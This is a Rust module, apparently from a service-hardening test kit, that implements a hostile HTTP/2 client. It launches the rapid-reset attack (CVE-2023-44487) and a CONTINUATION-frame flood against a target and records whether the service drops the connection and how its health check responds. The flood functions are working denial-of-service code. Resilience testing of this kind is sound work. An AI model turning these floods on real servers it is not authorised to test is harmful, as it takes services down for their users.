//! A hostile HTTP/2 client with prior knowledge, frame by frame (RFC 9113).

use std::time::Duration;

use anyhow::{Context, Result, bail, ensure};
use testkit::h2_frame;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};

use super::{Outcome, Target, with_health};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// `:status 200` in the static table.
const STATUS_200: u8 = 0x88;
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// Number of CONTINUATION frames of a flood: 64 MiB.
const CONTINUATIONS: u32 = 4096;
/// Timeout of an attack. The service ends a connection after 30 s without an answer to its PING, so an earlier close is
/// due to the flood.
const MAX_TIME: Duration = Duration::from_secs(10);

/// Floods the service, and waits until it closes the connection.
pub(crate) async fn run(attack: &str, streams: u64, target: &Target) -> Result<Outcome> {
    if !["rapid_reset", "continuation_flood"].contains(&attack) {
        bail!("the h2 attack {attack:?} is not known");
    }
    let (closed, health_ms) = with_health(target, async {
        let (mut reader, mut writer) = TcpStream::connect(target.addr).await?.into_split();
        greet(&mut reader, &mut writer).await?;
        let flood = async {
            let flood = if attack == "rapid_reset" {
                rapid_reset(&mut writer, u32::try_from(streams).unwrap_or(u32::MAX)).await
            } else {
                continuation_flood(&mut writer).await
            };
            // Either everything was written, or the service has closed. In both cases its answer decides.
            drop(flood);
            std::future::pending::<()>().await;
        };
        let mut rest = Vec::new();
        let closed = async { reader.read_to_end(&mut rest).await.map(|_| ()) };
        let work = async {
            tokio::select! { _ = closed => true, () = flood => false }
        };
        Ok(tokio::time::timeout(MAX_TIME, work).await.unwrap_or(false))
    })
    .await?;
    Ok(Outcome { closed, health_ms, ..Outcome::default() })
}

/// Sends one valid request on stream 1, which proves that the connection worked before the flood.
async fn greet(reader: &mut OwnedReadHalf, writer: &mut OwnedWriteHalf) -> Result<()> {
    writer.write_all(PREFACE).await?;
    writer.write_all(&h2_frame(SETTINGS, 0, 0, &[])).await?;
    writer.write_all(&h2_frame(HEADERS, END_STREAM | END_HEADERS, 1, &request())).await?;
    let answered = async {
        loop {
            let mut head = [0; 9];
            reader.read_exact(&mut head).await?;
            let [high, middle, low, kind, ..] = head;
            let mut payload = vec![0; u32::from_be_bytes([0, high, middle, low]) as usize];
            reader.read_exact(&mut payload).await?;
            if kind == HEADERS {
                return Ok::<_, std::io::Error>(payload);
            }
        }
    };
    let payload = tokio::time::timeout(MAX_TIME, answered).await.context("no answer over HTTP/2")??;
    ensure!(payload.first() == Some(&STATUS_200), "GET /health over HTTP/2 is not answered with 200");
    Ok(())
}

/// Returns a GET request for http /health, encoded with the static table (RFC 7541 appendix A).
fn request() -> Vec<u8> {
    [b"\x82\x86\x04\x07/health".as_slice(), b"\x01\x01x"].concat()
}

/// Sends requests that are cancelled at once (CVE-2023-44487).
async fn rapid_reset(writer: &mut OwnedWriteHalf, streams: u32) -> std::io::Result<()> {
    for batch in 0..streams.div_ceil(100) {
        let mut out = Vec::new();
        for index in batch * 100..((batch + 1) * 100).min(streams) {
            let stream = index * 2 + 3;
            out.extend(h2_frame(HEADERS, END_STREAM | END_HEADERS, stream, &request()));
            out.extend(h2_frame(RST_STREAM, 0, stream, &CANCEL));
        }
        writer.write_all(&out).await?;
    }
    Ok(())
}

/// Sends an endless header block (CVE-2024-27316 class).
async fn continuation_flood(writer: &mut OwnedWriteHalf) -> std::io::Result<()> {
    writer.write_all(&h2_frame(HEADERS, END_STREAM, 3, &request())).await?;
    // Literal fields without indexing: name `x`, a value of 126 bytes.
    let field = [b"\x00\x01x\x7e".as_slice(), &[b'a'; 126]].concat();
    let flood = h2_frame(CONTINUATION, 0, 3, &field.repeat(125));
    for _ in 0..CONTINUATIONS {
        writer.write_all(&flood).await?;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_have_their_length_in_front() {
        assert_eq!(h2_frame(RST_STREAM, 0, 3, &CANCEL), [0, 0, 4, 3, 0, 0, 0, 0, 3, 0, 0, 0, 8]);
    }
}
